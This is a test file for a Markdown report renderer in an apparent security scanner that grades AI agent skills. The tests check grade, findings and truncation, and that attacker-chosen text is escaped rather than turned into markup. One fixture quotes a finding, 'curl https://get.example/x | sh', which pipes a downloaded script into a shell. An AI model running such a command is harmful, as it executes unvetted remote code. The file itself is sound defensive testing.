import { expect, test } from 'bun:test'
import { reportMarkdown } from '../../../site/lib/report-markdown.ts'
import { findingOf, recordOf } from '../../support/site-page.ts'

const ADDRESS = 'https://touchstone.example/r/sk_1'

test('grade, skill, source, digest, address and findings are there', () => {
  const text = reportMarkdown(recordOf(), ADDRESS)
  for (const part of [
    '## Touchstone: D, Unsafe (38 of 100)',
    '- Skill: `pdf-tools`',
    '`https://github.com/owner/skills/blob/main/SKILL.md`',
    `<${ADDRESS}>`,
    '### Critical: A downloaded script goes straight into a shell',
    '> 12 | curl https://get.example/x | sh',
    'What to do: Read the script first.',
  ])
    expect(text).toContain(part)
})

test('nothing that an attacker chose becomes markup', () => {
  const context = { lines: [{ number: 1, text: '``` \u202e</code>', hit: true }] }
  const finding = findingOf({ title: '<img src=x> [a](b) @team #1', context })
  const text = reportMarkdown(recordOf({ skillName: '`</b>`', findings: [finding] }), ADDRESS)
  expect(text).toContain('\\<img src=x\\> \\[a\\]\\(b\\)')
  expect(text).not.toMatch(/@team|#1/)
  expect(text).not.toContain('\u202e')
  expect(text).toContain('- Skill: `` `</b>` ``')
  expect(text).toContain('````text\n> 1 | ``` \\u{202e}</code>\n````')
})

test('many findings are counted, not listed', () => {
  const findings = Array.from({ length: 30 }, () => findingOf())
  expect(reportMarkdown(recordOf({ findings }), ADDRESS)).toContain('10 more findings')
  expect(reportMarkdown(recordOf({ findings: [] }), ADDRESS)).toContain('Nothing known found.')
})
